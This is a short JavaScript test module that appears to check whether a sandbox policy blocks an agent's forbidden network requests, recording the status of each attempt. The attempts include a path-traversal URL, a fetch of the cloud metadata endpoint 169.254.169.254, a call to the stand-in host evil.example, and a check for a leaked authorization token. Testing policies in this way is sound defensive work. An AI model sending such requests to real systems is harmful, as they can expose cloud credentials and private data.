// Everything that the policy does not allow.
export default {
	async myAgent(param, env) {
		const attempts = {
			"another path": () => fetch(new URL("/kitchen/orders", env.MENU_URL)),
			"the same by a detour": () => fetch(env.MENU_URL + "/menu/%2e%2e/kitchen/orders"),
			"the same by a redirect": () => fetch(new URL("/menu/yesterday", env.MENU_URL)),
			"another method": () => fetch(new URL("/menu/today", env.MENU_URL), { method: "DELETE" }),
			"another name of the machine": () => fetch(new URL("/menu/today", env.MENU_URL.replace("127.0.0.1", "localhost"))),
			"the metadata of a cloud": () => fetch("http://169.254.169.254/latest/meta-data/"),
			"the internet": () => fetch("https://evil.example/?q=all+rooms"),
		};
		const refused = {};
		for (const [name, attempt] of Object.entries(attempts)) {
			try {
				refused[name] = (await attempt()).status;
			}
			catch (error) {
				refused[name] = error.code;
			}
		}
		const request = new Request(new URL("/menu/today", env.MENU_URL));
		const response = await fetch(request);
		refused["the token"] = `${request.headers.get("authorization")} ${response.headers.get("authorization")}`;
		return refused;
	}
};
